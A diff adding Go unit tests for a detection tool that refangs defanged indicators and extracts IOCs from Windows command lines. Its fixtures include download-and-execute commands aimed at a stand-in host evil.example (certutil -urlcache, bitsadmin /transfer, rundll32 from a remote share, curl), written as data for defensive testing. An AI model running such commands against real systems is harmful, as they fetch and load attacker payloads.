@@ -0,0 +1,85 @@
+package main
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestRefang(t *testing.T) {
+	tests := []struct {
+		s    string
+		want string
+	}{
+		{"hxxp://evil[.]example/a", "http://evil.example/a"},
+		{"hXXps://evil(.)example", "https://evil.example"},
+		{"HXXP://EVIL[.]EXAMPLE", "http://EVIL.EXAMPLE"},
+		{"evil(dot)example", "evil.example"},
+		{"evil[dot]example(DOT)com", "evil.example.com"},
+		{"evil{.}example[.]com", "evil.example.com"},
+		{"http[:]//evil.example", "http://evil.example"},
+		{"http[://]evil.example", "http://evil.example"},
+		{"10[.]0[.]0[.]1", "10.0.0.1"},
+		// Text merely resembling defanged forms is left alone
+		{"hxxp.log", "hxxp.log"},
+		{"evil dot example", "evil dot example"},
+		{"evil.example", "evil.example"},
+	}
+	for _, tt := range tests {
+		if got := refang(tt.s); got != tt.want {
+			t.Errorf("refang(%q) = %q, want %q", tt.s, got, tt.want)
+		}
+	}
+}
+
+func TestExtractIOCsDefanged(t *testing.T) {
+	tests := []struct {
+		name    string
+		cmdLine string
+		want    []IOC
+	}{
+		{"defanged URL", `certutil -urlcache -f hxxp://evil[.]example/a.exe a.exe`,
+			[]IOC{{IOCURL, "http://evil.example/a.exe"}, {IOCDomain, "evil.example"}}},
+		{"defanged https URL", `bitsadmin /transfer j hXXps://cdn(.)evil[.]example/p.dll C:\p.dll`,
+			[]IOC{{IOCURL, "https://cdn.evil.example/p.dll"}, {IOCDomain, "cdn.evil.example"}}},
+		{"defanged domain", `nslookup evil(dot)example[.]com`, []IOC{{IOCDomain, "evil.example.com"}}},
+		{"defanged IP", `ping 203[.]0[.]113[.]5`, []IOC{{IOCIPv4, "203.0.113.5"}}},
+		{"defanged UNC host", `rundll32 \\evil[.]example\share\x.dll,Run`,
+			[]IOC{{IOCUNCHost, "evil.example"}, {IOCDomain, "evil.example"}}},
+		{"refanged and plain deduplicated", `curl hxxp://evil[.]example/ http://evil.example/`,
+			[]IOC{{IOCURL, "http://evil.example/"}, {IOCDomain, "evil.example"}}},
+		// Legitimate arguments resembling defanged forms yield nothing
+		{"regex character class", `findstr /r "^[.]*$" C:\logs\app.log`, nil},
+		{"hxxp file name", `notepad C:\Users\alice\hxxp.txt`, nil},
+		{"file names", `rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL desk.cpl`, nil},
+		{"version number", `msiexec /i C:\setup\app-1.2.3.4.msi`, nil},
+		{"long version number", `setup.exe /v 10.0.19041.1`, nil},
+		{"address ending a sentence", `echo reached 10.0.0.1.`, []IOC{{IOCIPv4, "10.0.0.1"}}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := extractIOCs(tt.cmdLine); !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("extractIOCs(%q) = %v, want %v", tt.cmdLine, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestIOCsLeaveCommandLine(t *testing.T) {
+	cmdLine := `certutil.exe -urlcache -split -f hxxp://evil[.]example/a.exe C:\Users\Public\a.exe`
+	event := evaluate(`C:\Windows\System32\certutil.exe`, cmdLine)
+	if event.CommandLine != cmdLine {
+		t.Errorf("command line rewritten to %q", event.CommandLine)
+	}
+	if !hasIOC(&event, "http://evil.example/a.exe") {
+		t.Errorf("IOCs %v, want the refanged URL", event.IOCs)
+	}
+	// Defanged filter values match the refanged IOCs
+	for _, value := range []string{"evil.example", "evil[.]example", "EVIL(dot)EXAMPLE", "hxxp://evil[.]example/a.exe"} {
+		if !hasIOC(&event, value) {
+			t.Errorf("hasIOC(%q) = false", value)
+		}
+	}
+	if hasIOC(&event, "notevil.example") {
+		t.Error("hasIOC matched another domain")
+	}
+}